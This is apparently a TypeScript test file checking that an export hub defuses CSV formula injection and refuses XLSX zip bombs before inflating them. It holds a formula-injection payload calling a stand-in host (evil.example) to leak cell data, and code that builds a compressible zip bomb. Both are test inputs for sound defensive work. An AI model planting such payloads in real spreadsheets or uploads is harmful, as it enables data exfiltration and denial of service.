/**
 * Exports neutralise formula injection (every CSV the hub writes goes through core/export/csv-safe.ts),
 * and an XLSX zip bomb is refused before it is inflated.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import yazl from 'yazl';
import { csvField, looksLikeFormula, safeCell, toSafeCsv } from '../../core/export/csv-safe.ts';
import { parseExport } from '../../integrations/exports/parse-export.ts';

describe('CSV-safe export cells', () => {
  it('prefixes a quote to cells starting with = + - @ tab or CR, and leaves the hub own numbers alone', () => {
    for (const s of ['=1+1', '+44', '-2+3', '@SUM(A1)', '\t=x', '\r=x', '＝1+1'])
      expect(safeCell(s)).toBe(`'${s}`);
    expect(safeCell('Plain text')).toBe('Plain text');
    expect(safeCell(-3)).toBe('-3');
    expect(safeCell(null)).toBe('');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(toSafeCsv(['id', 'note'], [[1, '=HYPERLINK("http://evil.example/?"&A1)']])).toBe(
      '"id","note"\r\n"1","\'=HYPERLINK(""http://evil.example/?""&A1)"\r\n',
    );
  });

  it('no exported cell can start a formula, whatever the text', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.string({ unit: 'binary' })), (s) => {
        expect(looksLikeFormula(safeCell(s))).toBe(false);
        // The value survives: removing the one added quote gives the original back.
        expect(safeCell(s).replace(/^'/, '')).toBe(looksLikeFormula(s) ? s : s.replace(/^'/, ''));
      }),
      { numRuns: 2000 },
    );
  });
});

function zip(entries: Record<string, Buffer>): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const z = new yazl.ZipFile();
    for (const [name, data] of Object.entries(entries)) z.addBuffer(data, name, { compress: true });
    const chunks: Buffer[] = [];
    z.outputStream.on('data', (c: Buffer) => chunks.push(c));
    z.outputStream.on('end', () => resolve(Buffer.concat(chunks)));
    z.outputStream.on('error', reject);
    z.end();
  });
}

describe('XLSX zip bombs', () => {
  it('a highly compressible workbook (a sheet inflating ~1000x) is refused before it is read, with bounded memory', async () => {
    const contentTypes = Buffer.from(
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    );
    const workbook = Buffer.from(
      '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="S" sheetId="1"/></sheets></workbook>',
    );
    // 200 MB of one repeated byte inside a sheet compresses ~1000x, to about 200 KB.
    const head =
      '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
    const tail = '</sheetData></worksheet>';
    const sheet = Buffer.alloc(200 * 1024 * 1024, ' ');
    sheet.write(head, 0);
    sheet.write(tail, sheet.length - tail.length);
    const bomb = await zip({
      '[Content_Types].xml': contentTypes,
      'xl/workbook.xml': workbook,
      'xl/worksheets/sheet1.xml': sheet,
    });
    expect(bomb.length).toBeLessThan(400 * 1024);
    const heapBefore = process.memoryUsage().heapUsed;
    const err = await parseExport('arbor-students', new Uint8Array(bomb), { fileName: 'bomb.xlsx' }).catch(
      (e: unknown) => e,
    );
    expect(err).toMatchObject({ code: 'IMPORT_FILE_REFUSED' });
    expect((err as Error).message).toMatch(/^bomb\.xlsx: refused: .*(zip bomb|too large|expands)/);
    // Refused from the zip directory: nothing near 200 MB was inflated.
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(64 * 1024 * 1024);
  });
});
